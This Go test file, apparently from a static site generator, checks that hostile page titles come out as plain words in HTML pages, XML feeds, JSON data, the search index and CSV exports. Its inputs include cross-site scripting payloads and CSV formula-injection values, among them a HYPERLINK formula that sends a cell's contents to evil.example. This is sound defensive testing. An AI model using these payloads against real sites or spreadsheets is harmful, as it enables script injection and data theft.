package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"maps"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// A title is words, and the same words, wherever it comes: in pages and their other
// forms, in data, feeds, sitemaps, spreadsheets and what is searched.
func TestAHostileTitleIsOnlyWordsEverywhere(t *testing.T) {
	t.Parallel()
	usual := faultless(t)
	plain := allForms(t, usual, "Parking permits")
	for _, title := range []string{
		`</title><script>alert(1)</script><img src=x onerror='alert(2)'>`,
		`A & B < C "D" 'E' ]]> --> <![cdata[ &amp; \u003c {{.}}`,
		`=hyperlink("https://evil.example?x="&a1,"click")`, "+1+1", "-2+3", "@sum(a1)", "\t=1+1",
	} {
		t.Run(title, func(t *testing.T) {
			t.Parallel()
			files := allForms(t, usual, title)
			if got, want := slices.Sorted(maps.Keys(files)), slices.Sorted(maps.Keys(plain)); len(got) != len(want) {
				t.Errorf("the files are %v, want %v", got, want)
			}
			words := strings.TrimSpace(title)
			known := parts(t, plain)
			for name, text := range files {
				switch filepath.Ext(name) {
				case ".html":
					for part := range parts(t, map[string]string{name: text}) {
						if !known[part] {
							t.Errorf("%s holds %s", name, part)
						}
					}
				case ".xml":
					wellFormed(t, name, text)
				case ".csv":
					noFormula(t, name, text, words)
				}
			}
			for name, says := range map[string]func(*testing.T, string) []string{
				"notices/parking.html": texts, "notices/parking.large.html": texts, "index.html": texts, "old.html": texts, "sharing.html": texts,
				"notices/parking.json": fromJSON, "notices/parking.feed.xml": fromXML, "feed.xml": fromXML, "search.json": fromJSON,
			} {
				if !slices.ContainsFunc(says(t, files[name]), func(s string) bool { return strings.Contains(s, words) }) {
					t.Errorf("%s does not say %q", name, words)
				}
			}
		})
	}
}

// allForms builds the site with a title in all places that take words, and in a
// purpose, an organisation and a label.
func allForms(t *testing.T, usual map[string]string, title string) map[string]string {
	t.Helper()
	quoted, err := json.Marshal(title) // which is YAML too
	if err != nil {
		t.Fatal(err)
	}
	files := maps.Clone(usual)
	for _, c := range []alteration{
		{anyFile, "title: Parking permits", "title: " + string(quoted)},
		{anyFile, "label: Your name and address", "label: " + string(quoted)},
		{anyFile, "purpose: Prints the permits for us", "purpose: " + string(quoted)},
		{anyFile, "FACTS", fmt.Sprintf("aliases: [/old.html]\nchanges:\n  - {date: 2026-07-01, what: %s}\n", quoted)},
		{"content/organisations/print-shop.yaml", "name: Print Shop Limited", "name: " + string(quoted)},
		{"content/site.yaml", "title: Privacy at Anytown", "title: " + string(quoted)},
	} {
		files[c.file] = c.apply(t, files[c.file])
	}
	for n := range 8 { // so many services can be searched
		files[fmt.Sprintf("content/notices/other-%d.md", n)] = strings.Replace(usual[anyFile], "title: Parking permits", fmt.Sprintf("title: Permits of kind %d", n), 1)
	}
	dir := t.TempDir()
	writeSite(t, dir, files)
	public := filepath.Join(dir, "public")
	if got := buildSite(t, dir, public); got.code != exitClean {
		t.Fatal(got.stderr)
	}
	site := published(t, public)
	for name, text := range site {
		if index, found := strings.CutPrefix(text, "const noticesIndex = "); found {
			delete(site, name)
			site["search.json"] = index
		}
	}
	return site
}

// texts gives the texts and the values of attributes of a page.
func texts(t *testing.T, page string) (list []string) {
	t.Helper()
	for n := range document(t, page).Descendants() {
		if n.Type == html.TextNode {
			list = append(list, n.Data)
		}
	}
	return list
}

func fromXML(t *testing.T, text string) (list []string) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(text))
	for {
		token, err := d.Token()
		if err != nil {
			return list
		}
		if words, ok := token.(xml.CharData); ok {
			list = append(list, string(words))
		}
	}
}

func wellFormed(t *testing.T, name, text string) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(text))
	for {
		if _, err := d.Token(); err != nil {
			if !errors.Is(err, io.EOF) {
				t.Errorf("%s: %v", name, err)
			}
			return
		}
	}
}

// noFormula holds a spreadsheet to having no cell that is calculated, and the words
// in one that is not.
func noFormula(t *testing.T, name, text, words string) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix([]byte(text), []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Errorf("%s: %v", name, err)
	}
	there := false
	for _, cell := range slices.Concat(rows...) {
		if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
			t.Errorf("%s has the cell %q", name, cell)
		}
		there = there || strings.Contains(cell, words)
	}
	if !there {
		t.Errorf("%s does not say %q", name, words)
	}
}

// fromJSON gives all texts in a file of data.
func fromJSON(t *testing.T, text string) (list []string) {
	t.Helper()
	d := json.NewDecoder(strings.NewReader(text))
	for {
		token, err := d.Token()
		if err != nil {
			return list
		}
		if words, ok := token.(string); ok {
			list = append(list, words)
		}
	}
}
